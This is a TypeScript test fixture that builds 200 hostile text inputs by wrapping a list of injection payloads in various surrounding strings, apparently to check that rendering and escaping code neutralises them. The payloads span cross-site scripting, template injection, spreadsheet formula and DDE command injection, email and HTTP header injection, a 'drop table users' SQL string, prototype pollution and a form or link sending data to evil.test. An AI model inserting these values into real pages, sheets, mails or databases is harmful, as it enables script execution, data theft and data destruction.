/** What people would write who want it to be more than words where it is read: on a page, in a mail, in a table or a log. */
const AIMED = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>*{display:none}</style>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<form action="https://evil.test"><input name=code></form>',
  '</template><script>alert(1)</script>',
  '</title></style></textarea></script><b>',
  '<!-- --><![CDATA[ <b> ]]>',
  '" onmouseover="alert(1)',
  "' autofocus onfocus='alert(1)",
  '&lt;script&gt;&#x3c;b&#62;&amp;',
  '\\u003cscript\\u003e \\x3cb\\x3e',
  '{name} {count, plural, other {#}} {{7*7}} ${7*7} <%= 7*7 %>',
  '=HYPERLINK("https://evil.test","pay")',
  "+1+cmd|' /C calc'!A0 @SUM(1) -2",
  'a\r\nBcc: all@evil.test\r\n\r\n<b>',
  '--boundary\r\nContent-Type: text/html\r\n\r\n<b>',
  '.\r\nQUIT\r\nMAIL FROM:<evil@evil.test>',
  '%0d%0aSet-Cookie:%20a=b %3Cscript%3E',
  '\u202e\u2066gnp.exe <b>\u2069',
  '{"__proto__":{"admin":true}} \'; drop table users; --',
  '[31m]8;;https://evil.test here <b>',
]
const AROUND: ((text: string) => string)[] = [
  (text) => text,
  (text) => `Tere! ${text}`,
  (text) => `${text} Спасибо`,
  (text) => `"${text}"`,
  (text) => `'${text}'>`,
  (text) => `first line\n${text}\nlast line`,
  (text) => text.toUpperCase(),
  (text) => `<${text}`,
]

/** 200 of them. */
export const HOSTILE_TEXTS = AROUND.flatMap((around) => AIMED.map(around))

/** As long and in as many lines, and nothing but words. */
export const harmless = (text: string) => text.replaceAll(/[^\r\n]/gu, 'a')

/** The markup of a page, without the words between and in it. */
export function markupOf(html: string): string[] {
  const tags = html.match(/<[a-z/!?][^>]*>/gi) ?? []
  return tags.map((tag) => tag.replaceAll(/"[^"]*"/g, '""'))
}
